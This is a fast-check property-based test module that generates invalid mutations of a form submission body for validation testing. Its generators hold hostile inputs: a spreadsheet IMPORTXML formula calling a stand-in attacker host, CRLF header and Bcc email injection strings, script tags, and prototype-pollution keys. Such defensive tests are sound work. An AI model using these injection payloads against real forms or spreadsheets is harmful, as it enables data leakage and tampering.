// Changes to a valid body that the contract must refuse with a 400 naming what is wrong:
// values past a limit (one character over; 50,001, past a Sheets cell), wrong types,
// missing keys, keys the form does not have (prototype names and markup included).
import fc from 'fast-check';
import { QUESTIONS } from '../../shared/domain/form';
import { LINE, question, setText, TEXT, USER_TEXT_KEYS, type Mutation } from './hostile-mutations';
import { overCellLimit } from './hostile-text';

const REQUIRED = QUESTIONS.filter((q) => q.required && q.kind !== 'commitment').map((q) => q.key);

export const huge = fc.oneof(
  fc.constantFrom(...TEXT).map((k) => setText(k, 'x'.repeat((question(k).max ?? 4000) + 1), 'one character over the limit')),
  fc.constantFrom(...TEXT, ...LINE).map((k) => setText(k, overCellLimit('=IMPORTXML("https://evil.example")'), '50,001 characters')),
);

const WRONG_VALUES = [42, -1, 1.5, true, false, [], ['x'], {}, { a: 1 }] as const;
export const wrongType = fc.oneof(
  fc.tuple(fc.constantFrom(...USER_TEXT_KEYS, 'contactEmail', 'serviceType', 'topic', 'trackRecord', 'modality', 'submittedAt'), fc.constantFrom(...WRONG_VALUES))
    .map(([k, v]): Mutation => ({ label: `${JSON.stringify(v)} as ${k}`, keys: [k], apply: (b) => void (b[k] = v), breaks: { field: k } })),
  fc.constantFrom('true', 1, [], null, 'sí').map((v): Mutation => ({ label: `${JSON.stringify(v)} as priorityTheme`, keys: ['priorityTheme'], apply: (b) => void (b.priorityTheme = v), breaks: { field: 'priorityTheme' } })),
  fc.constantFrom(null, 'true', [], { availability: true }, { availability: 'true', shareLearning: true, provideInformation: true }, { availability: true, shareLearning: true, provideInformation: false })
    .map((v): Mutation => ({ label: `${JSON.stringify(v)} as commitments`, keys: ['commitments'], apply: (b) => void (b.commitments = v), breaks: { field: 'commitments' } })),
  fc.constantFrom('ahir', 1588579200, '2020-13-45T99:00:00+02:00', '=NOW()', '2020-05-04')
    .map((v): Mutation => ({ label: `${JSON.stringify(v)} as submittedAt`, keys: ['submittedAt'], apply: (b) => void (b.submittedAt = v), breaks: { field: 'submittedAt' } })),
  fc.constantFrom('a b', '=1+1', 'x'.repeat(129), '', 42, 'id\r\nX-Injected: 1', '<script>', 'ç')
    .map((v): Mutation => ({ label: `${JSON.stringify(v).slice(0, 40)} as submissionId`, keys: ['submissionId'], apply: (b) => void (b.submissionId = v), breaks: { field: 'submissionId' } })),
  fc.constantFrom('MENTORING', 'mentoria', '=1', '', '<b>advisory</b>')
    .map((v): Mutation => ({ label: `${JSON.stringify(v)} as serviceType`, keys: ['serviceType'], apply: (b) => void (b.serviceType = v), breaks: { field: 'serviceType' } })),
  fc.constantFrom('x@example.cat\r\nBcc: tothom@example.cat', '"<script>"@example.cat', '=HYPERLINK("x")@example.cat', 'nom@exa mple.cat', 'nom', 'nom@@example.cat')
    .map((v): Mutation => ({ label: `${JSON.stringify(v)} as contactEmail`, keys: ['contactEmail'], apply: (b) => void (b.contactEmail = v), breaks: { field: 'contactEmail' } })),
);

export const missing = fc.constantFrom(...REQUIRED, 'submissionId', 'submittedAt', 'commitments').map(
  (k): Mutation => ({ label: `${k} missing`, keys: [k], apply: (b) => void delete b[k], breaks: { field: k } }),
);
const EXTRA_KEYS = ['isAdmin', '<script>alert(1)</script>', '=IMPORTXML("https://evil.example")', 'constructor', '__proto__', 'toString', 'a\r\nb', 'k'.repeat(5000), 'Referència', 'ID'];
export const extra = fc.tuple(fc.constantFrom(...EXTRA_KEYS), fc.constantFrom<unknown>(true, 'admin', { role: 'admin' }, null)).map(
  ([k, v]): Mutation => ({
    label: `extra key ${JSON.stringify(k.slice(0, 30))}`,
    keys: [`extra:${k}`],
    // defineProperty, so "__proto__" is an own key in the JSON as an attacker would send it.
    apply: (b) => void Object.defineProperty(b, k, { value: v, enumerable: true, configurable: true, writable: true }),
    breaks: { form: 'unknown-key' },
  }),
);
